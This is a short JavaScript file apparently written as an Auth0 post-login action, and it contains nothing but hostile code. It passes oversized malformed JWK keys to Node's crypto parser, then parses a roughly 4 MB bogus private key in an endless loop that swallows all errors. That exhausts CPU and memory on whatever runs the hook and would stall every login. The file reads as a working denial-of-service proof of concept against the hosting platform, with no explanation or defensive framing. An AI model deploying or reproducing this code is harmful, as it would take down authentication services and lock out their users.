exports.onExecutePostLogin = async function (event, api) {
  const c = require("crypto"); const n = Buffer.alloc(40000, 255).toString("base64url"); for (const key of [{ kty: "RSA", n, e: "AQAB" }, { kty: "RSA", n: "AQAB", e: n, d: n, p: n, q: n }, { kty: "EC", crv: "P-256", x: n, y: n }]) try { c.createPublicKey({ key, format: "jwk" }); } catch (e) { console.log(e.message); } const pem = "-----BEGIN PRIVATE KEY-----\n" + Buffer.alloc(4e6, 48).toString("base64") + "\n-----END PRIVATE KEY-----"; for (;;) try { c.createPrivateKey(pem); } catch (e) {}
};
